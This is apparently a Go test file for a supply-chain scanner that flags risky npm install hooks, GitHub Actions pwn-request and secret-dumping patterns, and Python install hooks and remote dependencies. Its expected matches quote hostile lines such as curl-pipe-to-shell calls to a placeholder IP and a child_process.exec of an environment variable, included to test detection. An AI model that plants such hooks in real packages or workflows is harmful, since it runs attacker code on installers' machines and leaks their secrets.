package manifest

import (
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/vigilsec/vigil/analyze"
	"github.com/vigilsec/vigil/report"
)

func load(t testing.TB, name, as string) *analyze.File {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return &analyze.File{Path: as, Data: b, Size: int64(len(b)), Kind: analyze.Sniff(as, b)}
}

type want struct {
	rule  string
	line  int
	level report.Level
	match string // substring of Match
}

func check(t *testing.T, what string, got []report.Finding, wants []want) {
	t.Helper()
	for _, w := range wants {
		found := false
		for _, f := range got {
			if f.Rule == w.rule && f.Line == w.line && strings.Contains(f.Match, w.match) {
				found = true
				if f.Level != w.level {
					t.Errorf("%s: %s at line %d is %s, want %s", what, w.rule, w.line, f.Level, w.level)
				}
			}
		}
		if !found {
			t.Errorf("%s: no %s at line %d matching %q in:", what, w.rule, w.line, w.match)
			for _, f := range got {
				t.Logf("  %s %s:%d %q", f.Level, f.Rule, f.Line, f.Match)
			}
		}
	}
}

func TestNPM(t *testing.T) {
	old := load(t, "hook-added/old/package.json", "pkg.tgz!/package/package.json")
	cur := load(t, "hook-added/new/package.json", "pkg.tgz!/package/package.json")
	check(t, "scan", (Analyzer{}).Analyze(cur), []want{
		{RuleInstallScript, 8, report.Medium, `"install": "node-gyp rebuild && curl`},
		{RuleInstallScript, 9, report.Medium, `"postinstall": "node bundle.js"`},
		{"shell.pipe-to-shell", 8, report.High, "curl -s https://203.0.113.7/x | sh"},
	})
	diff := (Analyzer{}).Diff(old, cur)
	check(t, "diff", diff, []want{
		{RuleHookChanged, 8, report.High, `"install"`},
		{RuleHookAdded, 9, report.High, `"postinstall": "node bundle.js"`},
		{RuleDepAdded, 14, report.Low, "colorz@^2.0.0"},
		{RuleDepRemote, 15, report.Medium, "helper@https://203.0.113.7/helper-1.0.0.tgz"},
		{RuleBundledAdded, 17, report.Medium, "colorz"},
		{RuleFilesAdded, 5, report.Low, "bundle.js"},
	})
	for _, f := range diff {
		if !f.New {
			t.Errorf("diff finding not marked new: %+v", f)
		}
		if strings.Contains(f.Match, "tiny-linux-x64") {
			t.Errorf("lockstep platform dependency reported: %+v", f)
		}
	}
	if got := (Analyzer{}).Diff(cur, cur); len(got) != 0 {
		t.Errorf("diff of a file with itself: %+v", got)
	}
	facts := map[string]string{}
	(Analyzer{}).Record(cur, facts)
	if facts[FactName] != "@lumen/tiny" || facts[FactVersion] != "4.1.1" {
		t.Errorf("facts = %v", facts)
	}
}

func TestActions(t *testing.T) {
	f := load(t, "gha/.github/workflows/fail_pwn.yml", "repo.zip!/.github/workflows/fail_pwn.yml")
	got := (Analyzer{}).Analyze(f)
	check(t, "fail_pwn.yml", got, []want{
		{RuleGHAPwnRequest, 12, report.High, "github.event.pull_request.head.sha"},
		{RuleGHAUnpinned, 13, report.Low, "some-org/setup-thing@v2"},
		{RuleGHAInjection, 17, report.Medium, "github.event.issue.title"},
		{RuleGHASecretsDump, 18, report.High, "toJSON(secrets)"},
		{"shell.pipe-to-shell", 19, report.High, "curl -sSfL https://get.example/i.sh | bash"},
		{RuleGHASecretSent, 20, report.Medium, "secrets.DEPLOY_TOKEN"},
	})
	for _, x := range got {
		if strings.Contains(x.Match, "evil/unused") || strings.Contains(x.Match, "pinned-org") {
			t.Errorf("reported %q", x.Match)
		}
	}
	if got := (Analyzer{}).Analyze(load(t, "gha/.github/workflows/clean.yml", ".github/workflows/clean.yml")); len(got) != 0 {
		t.Errorf("clean.yml: %+v", got)
	}
	// The same text outside a workflow directory is not a workflow.
	if got := (Analyzer{}).Analyze(load(t, "gha/.github/workflows/fail_pwn.yml", "docs/example.yml")); len(got) != 0 {
		t.Errorf("docs/example.yml: %+v", got)
	}
}

func TestPython(t *testing.T) {
	setup := load(t, "py/setup.py", "demo-1.2.0.tar.gz!/demo-1.2.0/setup.py")
	check(t, "setup.py", (Analyzer{}).Analyze(setup), []want{{RuleCmdclass, 9, report.Medium, `cmdclass={"install": PostInstall}`}})
	check(t, "setup.py diff", (Analyzer{}).Diff(load(t, "py/setup_old.py", "setup.py"), setup), []want{{RuleCmdclassAdded, 9, report.High, "cmdclass"}})
	if got := (Analyzer{}).Diff(setup, setup); len(got) != 0 {
		t.Errorf("cmdclass that was always there: %+v", got)
	}
	meta := load(t, "py/METADATA", "demo.whl!/demo_pkg-1.2.0.dist-info/METADATA")
	check(t, "METADATA diff", (Analyzer{}).Diff(load(t, "py/METADATA_old", "x.dist-info/METADATA"), meta), []want{
		{RuleDepAdded, 6, report.Low, "evil-helper"},
		{RuleDepRemote, 7, report.Medium, "fastlib @ https://203.0.113.7/"},
	})
	for _, tt := range []struct {
		f             *analyze.File
		name, version string
	}{
		{meta, "demo-pkg", "1.2.0"},
		{load(t, "py/pyproject.toml", "demo/pyproject.toml"), "demo-pkg", "1.2.0"},
		{load(t, "py/METADATA", "demo/README"), "", ""},
	} {
		facts := map[string]string{}
		(Analyzer{}).Record(tt.f, facts)
		if facts[FactName] != tt.name || facts[FactVersion] != tt.version {
			t.Errorf("%s: facts %v, want %s %s", tt.f.Path, facts, tt.name, tt.version)
		}
	}
	check(t, "entry_points.txt", (Analyzer{}).Analyze(load(t, "py/entry_points.txt", "x.dist-info/entry_points.txt")),
		[]want{{RuleEntryPoint, 2, report.Low, "demo = demo.cli:main"}})
}

func FuzzManifest(f *testing.F) {
	for _, p := range []string{"hook-added/new/package.json", "gha/.github/workflows/fail_pwn.yml", "py/setup.py", "py/METADATA", "py/pyproject.toml", "py/entry_points.txt"} {
		if b, err := os.ReadFile(filepath.Join("testdata", p)); err == nil {
			f.Add(b, b[:len(b)/2])
		}
	}
	f.Add([]byte(`{"scripts":{"install":1},"bundleDependencies":true}`), []byte(`{"scripts":[]}`))
	f.Fuzz(func(t *testing.T, cur, old []byte) {
		for _, name := range fuzzNames() {
			nf := &analyze.File{Path: name, Data: cur, Size: int64(len(cur))}
			of := &analyze.File{Path: name, Data: old, Size: int64(len(old))}
			for _, x := range append((Analyzer{}).Analyze(nf), (Analyzer{}).Diff(of, nf)...) {
				if x.Line < 1 || x.Offset < 0 || x.Offset > int64(len(cur)) {
					t.Fatalf("%s: bad position %+v", name, x)
				}
			}
			(Analyzer{}).Record(nf, map[string]string{})
		}
	})
}

// TestPrepareHook: prepare does not run on a registry install, so a
// changed prepare script is worth a look but is not the worm shape.
func TestPrepareHook(t *testing.T) {
	mk := func(s string) *analyze.File {
		return &analyze.File{Path: "package/package.json", Data: []byte(s), Size: int64(len(s)), Kind: analyze.JSON}
	}
	old := mk(`{"version":"1.0.0","scripts":{"prepare":"lefthook install"}}`)
	cur := mk(`{"version":"1.0.1","scripts":{"prepare":"if [ -d .git ]; then npx lefthook install; fi"}}`)
	got := (Analyzer{}).Diff(old, cur)
	if len(got) != 1 || got[0].Rule != RuleHookChanged || got[0].Level != report.Medium {
		t.Errorf("prepare changed: %+v", got)
	}
}

func TestActionDiff(t *testing.T) {
	old := load(t, "action/old.yml", "a.zip!/action.yml")
	cur := load(t, "action/new.yml", "a.zip!/action.yml")
	check(t, "action.yml diff", (Analyzer{}).Diff(old, cur), []want{
		{RuleHookAdded, 7, report.High, "pre: dist/setup.js"},
		{RuleEntryChanged, 8, report.Medium, "main: dist/main.js"},
	})
	if got := (Analyzer{}).Diff(old, old); len(got) != 0 {
		t.Errorf("unchanged action.yml: %+v", got)
	}
}

func fuzzNames() []string {
	if n := os.Getenv("FUZZNAME"); n != "" {
		return []string{n}
	}
	return []string{"package.json", ".github/workflows/a.yml", "setup.py", "x.dist-info/METADATA", "pyproject.toml", "entry_points.txt"}
}

func BenchmarkNPMDiff(b *testing.B) {
	old := load(b, "hook-added/old/package.json", "package.json")
	cur := load(b, "hook-added/new/package.json", "package.json")
	b.SetBytes(int64(len(cur.Data)))
	for b.Loop() {
		(Analyzer{}).Analyze(cur)
		(Analyzer{}).Diff(old, cur)
	}
}

func TestHookChangeLevels(t *testing.T) {
	pkg := func(install string) *analyze.File {
		b := []byte(`{"name":"n","version":"1.0.0","scripts":{"install":` + strconv.Quote(install) + `}}`)
		return &analyze.File{Path: "p/package.json", Data: b, Size: int64(len(b)), Kind: analyze.JSON}
	}
	for _, tc := range []struct {
		was, now string
		level    report.Level
	}{
		{"node-pre-gyp install --fallback-to-build", "prebuild-install -r napi || node-gyp rebuild", report.Medium},
		{"node-gyp rebuild", "node setup.js && node-gyp rebuild", report.High},
		{"node-gyp rebuild", "node-gyp rebuild && curl -s https://203.0.113.7/x | sh", report.High},
		{"node install.js", "node install.js --verbose", report.Medium},
		{"node install.js", "node -e \"require('child_process').exec(process.env.X)\"", report.High},
	} {
		got := (Analyzer{}).Diff(pkg(tc.was), pkg(tc.now))
		var level report.Level
		for _, f := range got {
			if f.Rule == RuleHookChanged {
				level = f.Level
			}
		}
		if level != tc.level {
			t.Errorf("%q -> %q: %s, want %s", tc.was, tc.now, level, tc.level)
		}
	}
}
